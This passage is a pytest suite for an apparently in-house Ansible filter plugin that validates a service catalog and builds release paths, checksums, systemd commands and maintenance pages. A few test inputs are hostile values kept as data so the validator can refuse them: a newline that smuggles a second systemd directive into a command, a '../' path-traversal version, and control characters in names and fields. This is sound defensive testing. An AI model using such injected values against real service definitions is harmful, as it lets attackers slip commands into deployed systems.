    ("environment", {"NAME\n": "x"}, "environment.NAME\\n"),
    ("environment.TOKEN", "a\x00b", "environment.TOKEN"),
    ("environment.TOKEN", "a\rb", "environment.TOKEN"),
])
def test_hostile_values_are_refused(path: str, value: Any, field: str) -> None:
    problem(with_change("main-api", path, value), f"fleet_services.main-api.{field}:")


def test_service_name_with_trailing_newline_is_refused() -> None:
    lines = problems({"api\n": _service("api", 8000)})
    assert lines and all(line.startswith("fleet_services.api\\n") for line in lines), lines


# --------------------------------------------------------------------------- whole-input errors

@pytest.mark.parametrize("services", [None, [], "zapier-mcp", {}])
def test_services_not_a_mapping_or_empty(services: Any) -> None:
    with pytest.raises(AnsibleFilterError, match=r"^fleet_services: (must be a mapping|is empty)"):
        fleet_validated_catalog(services, GROUPS)


def test_groups_must_be_a_mapping() -> None:
    with pytest.raises(AnsibleFilterError, match="'groups' variable"):
        fleet_validated_catalog(example_catalog(), ["fleet"])


@pytest.mark.parametrize("reserved", ["22", [22, "80"], [0]])
def test_bad_reserved_ports(reserved: Any) -> None:
    with pytest.raises(AnsibleFilterError, match="reserved_ports"):
        fleet_validated_catalog(example_catalog(), GROUPS, reserved)


def test_all_problems_are_reported_at_once() -> None:
    services = example_catalog()
    services["zapier-mcp"]["port"] = 80
    services["main-api"]["health"]["path"] = "health"
    services["main-api"]["release"]["version"] = 1.0
    services["infrastructure"]["group"] = "nope"
    services["personas-api"]["colour"] = "blue"
    lines = problems(services)
    assert len(lines) == 5
    assert all(line.startswith("fleet_services.") for line in lines)
    for prefix in ("zapier-mcp.port:", "main-api.health.path:", "main-api.release.version:",
                   "infrastructure.group:", "personas-api.colour:"):
        assert any(line.startswith(f"fleet_services.{prefix}") for line in lines), prefix


# --------------------------------------------------------------------------- the other filters

@pytest.fixture(name="catalog")
def fixture_catalog() -> dict[str, dict[str, Any]]:
    services = example_catalog()
    services["gpu-worker"] = {**_service("gpu-worker", 8200), "group": "gpu"}
    services["web-only"] = {**_service("web-only", 8300), "group": "web"}
    return fleet_validated_catalog(services, GROUPS)


def test_release_archive_uses_catalog_version(catalog: dict[str, Any]) -> None:
    expected = f"{STORE}/demo-service-1.0.0.tar.gz"
    assert fleet_release_archive(catalog["main-api"]) == expected
    assert fleet_release_archive(catalog["main-api"], "") == expected


def test_release_archive_uses_given_version(catalog: dict[str, Any]) -> None:
    assert fleet_release_archive(catalog["main-api"], "1.2.0") == f"{STORE}/demo-service-1.2.0.tar.gz"


def test_release_archive_without_placeholder(catalog: dict[str, Any]) -> None:
    svc = copy.deepcopy(catalog["main-api"])
    svc["release"]["archive"] = "/srv/main-api.tar.gz"
    assert fleet_release_archive(svc) == "/srv/main-api.tar.gz"
    assert fleet_release_archive(svc, "1.0.0") == "/srv/main-api.tar.gz"
    with pytest.raises(AnsibleFilterError, match=r"no \{version\} placeholder, so version '2.0.0' cannot"):
        fleet_release_archive(svc, "2.0.0")


def test_release_archive_without_any_version(catalog: dict[str, Any]) -> None:
    svc = copy.deepcopy(catalog["main-api"])
    svc["release"]["version"] = ""
    with pytest.raises(AnsibleFilterError, match="no version for 'main-api'"):
        fleet_release_archive(svc)


@pytest.mark.parametrize(("version", "expected"), [(1.1, "must be a string"), ("../x", "may only hold")])
def test_release_archive_bad_version(catalog: dict[str, Any], version: Any, expected: str) -> None:
    with pytest.raises(AnsibleFilterError, match=expected):
        fleet_release_archive(catalog["main-api"], version)


def test_release_checksum_of_the_catalog_version(catalog: dict[str, Any]) -> None:
    svc = copy.deepcopy(catalog["main-api"])
    assert fleet_release_checksum(svc) == ""  # a controller path without sha256: nothing to check
    svc["release"]["sha256"] = SHA
    assert fleet_release_checksum(svc) == f"sha256:{SHA}"
    assert fleet_release_checksum(svc, "1.0.0") == f"sha256:{SHA}"
    assert fleet_release_checksum(svc, "1.2.0") == ""  # another file: the catalog's sum is not its sum


def test_release_checksum_of_another_version_is_published_beside_the_archive(catalog: dict[str, Any]) -> None:
    svc = copy.deepcopy(catalog["main-api"])
    svc["release"].update(archive="https://r.test/a/main-api-{version}.tar.gz?token=1", sha256=SHA)
    assert fleet_release_checksum(svc, "") == f"sha256:{SHA}"
    assert fleet_release_checksum(svc, "1.2.0") == "sha256:https://r.test/a/main-api-1.2.0.tar.gz.sha256?token=1"


def test_release_checksum_without_placeholder_is_the_catalog_sum(catalog: dict[str, Any]) -> None:
    svc = copy.deepcopy(catalog["main-api"])
    svc["release"].update(archive="https://r.test/main-api.tar.gz", sha256=SHA)
    assert fleet_release_checksum(svc, "1.0.0") == f"sha256:{SHA}"
    with pytest.raises(AnsibleFilterError, match=r"^fleet_release_checksum: .*no \{version\} placeholder"):
        fleet_release_checksum(svc, "2.0.0")


@pytest.mark.parametrize(("command", "expected"), [
    ("/usr/bin/python3 app.py --port {port}", "/usr/bin/python3 app.py --port %i"),
    ("/usr/bin/app --bind 127.0.0.1:{port}", "/usr/bin/app --bind 127.0.0.1:%i"),
    ("/usr/bin/app --ratio 50% --home $HOME ${X}", "/usr/bin/app --ratio 50%% --home $$HOME $${X}"),
    ("/usr/bin/app %i %%", "/usr/bin/app %%i %%%%"),
    ("/usr/bin/app --label 'a b' \"it's\"", '/usr/bin/app --label "a b" "it\'s"'),
    ("/usr/bin/app 'back\\slash' 'say \"hi\"'", '/usr/bin/app "back\\\\slash" "say \\"hi\\""'),
    ("/usr/bin/app ';' 'a;b' '' '#x'", '/usr/bin/app ";" a;b "" #x'),
    ("python3 -c 'import sys' Zoë", "python3 -c \"import sys\" Zoë"),
])
def test_exec_command(command: str, expected: str) -> None:
    assert fleet_exec_command(command) == expected


@pytest.mark.parametrize("command", ["/usr/bin/app\nExecStartPre=/bin/true", "/usr/bin/app 'x", 5])
def test_exec_command_refuses_what_validation_refuses(command: Any) -> None:
    with pytest.raises(AnsibleFilterError, match=r"^fleet_exec_command: "):
        fleet_exec_command(command)


def test_idle_slot(catalog: dict[str, Any]) -> None:
    svc = catalog["personas-api"]
    assert fleet_idle_slot(svc, 8000) == 9000
    assert fleet_idle_slot(svc, 9000) == 8000
    assert fleet_idle_slot(svc, "9000") == 8000  # local facts from INI files are strings


@pytest.mark.parametrize("live", [8010, None, "", True])
def test_idle_slot_rejects_other_ports(catalog: dict[str, Any], live: Any) -> None:
    with pytest.raises(AnsibleFilterError, match=r"valid slots are 8000 \(blue\) and 9000 \(green\)"):
        fleet_idle_slot(catalog["personas-api"], live)


@pytest.mark.parametrize("not_a_service", [None, "main-api", {"port": 8000}])
def test_filters_reject_raw_service(not_a_service: Any) -> None:
    with pytest.raises(AnsibleFilterError, match="expects one service from fleet_validated_catalog"):
        fleet_idle_slot(not_a_service, 8000)
    with pytest.raises(AnsibleFilterError, match="expects one service from fleet_validated_catalog"):
        fleet_release_archive(not_a_service)


def test_services_on_host(catalog: dict[str, Any]) -> None:
    names = [svc["name"] for svc in fleet_services_on_host(catalog, "h3")]
    assert names == ["gpu-worker", "infrastructure", "main-api", "personas-api", "zapier-mcp"]
    names = [svc["name"] for svc in fleet_services_on_host(catalog, "h1")]
    assert names == ["infrastructure", "main-api", "personas-api", "web-only", "zapier-mcp"]
    assert fleet_services_on_host(catalog, "elsewhere") == []


def test_services_on_host_rejects_non_catalog() -> None:
    with pytest.raises(AnsibleFilterError, match="expects the result of fleet_validated_catalog"):
        fleet_services_on_host(["main-api"], "h1")


# --------------------------------------------------------------------------- plugin surface

def test_filter_module_mapping() -> None:
    assert FilterModule().filters() == {
        "fleet_validated_catalog": fleet_validated_catalog,
        "fleet_release_archive": fleet_release_archive,
        "fleet_release_checksum": fleet_release_checksum,
        "fleet_exec_command": fleet_exec_command,
        "fleet_idle_slot": fleet_idle_slot,
        "fleet_services_on_host": fleet_services_on_host,
    }


@pytest.mark.parametrize("name", sorted(FilterModule().filters()))
def test_documentation_parses(name: str) -> None:
    prefix = name.upper()
    doc = yaml.safe_load(getattr(fleet_catalog, f"{prefix}_DOCUMENTATION"))
    assert doc["name"] == name
    assert "_input" in doc["options"]
    assert isinstance(yaml.safe_load(getattr(fleet_catalog, f"{prefix}_EXAMPLES")), list)
    assert "_value" in yaml.safe_load(getattr(fleet_catalog, f"{prefix}_RETURN"))


def test_release_checksum_may_be_the_checksum_file_of_every_version() -> None:
    sums = "https://r.test/a/main-api-{version}.tar.gz.sha256"
    services = with_change("main-api", "release", {"version": "1.0.0", "sha256": sums,
                                                   "archive": "https://r.test/a/main-api-{version}.tar.gz"})
    svc = fleet_validated_catalog(services, GROUPS)["main-api"]
    assert fleet_release_checksum(svc) == "sha256:https://r.test/a/main-api-1.0.0.tar.gz.sha256"
    assert fleet_release_checksum(svc, "1.2.0") == "sha256:https://r.test/a/main-api-1.2.0.tar.gz.sha256"
    problem(with_change("main-api", "release.sha256", "https://r.test/a b.sha256"),
            "fleet_services.main-api.release.sha256:", "no spaces or control characters")


def test_a_checksum_file_url_is_refused_for_an_archive_on_the_controller() -> None:
    local = with_change("main-api", "release", {"version": "1.0.0", "archive": "/srv/releases/main-api.tar.gz",
                                                "sha256": "https://r.test/a/main-api-{version}.tar.gz.sha256"})
    problem(local, "fleet_services.main-api.release.sha256:", "goes with an https archive",
            "give the archive's 64 hex digits")


# --------------------------------------------------------------------------- nginx.maintenance_page

def test_a_maintenance_page_is_kept_as_written() -> None:
    page = "<!doctype html>\r\n<title>back soon</title>\n\t<p>main-api: planned work</p>\n"
    catalog = fleet_validated_catalog(with_change("main-api", "nginx.maintenance_page", page), GROUPS)
    assert catalog["main-api"]["nginx"]["maintenance_page"] == page
    assert catalog["personas-api"]["nginx"]["maintenance_page"] == ""  # absent: the nginx role's default page


@pytest.mark.parametrize(("given", "fragments"), [
    (42, ("must be the page's HTML as text, got an integer (42)", "lookup('file', 'maintenance/main-api.html')")),
    ("  \n", ("must be the page's HTML as text, got blank text",)),
    (["<p>"], ("must be the page's HTML as text",)),
    ("<p>\x00</p>", ("holds the control character '\\x00'", "only tab, newline and carriage return")),
    ("x" * 65537, ("is 65537 characters long, more than 65536",)),
])
def test_a_bad_maintenance_page_is_refused_naming_the_service_and_field(given: Any, fragments: tuple[str, ...]) -> None:
    problem(with_change("main-api", "nginx.maintenance_page", given),
            "fleet_services.main-api.nginx.maintenance_page:", *fragments)
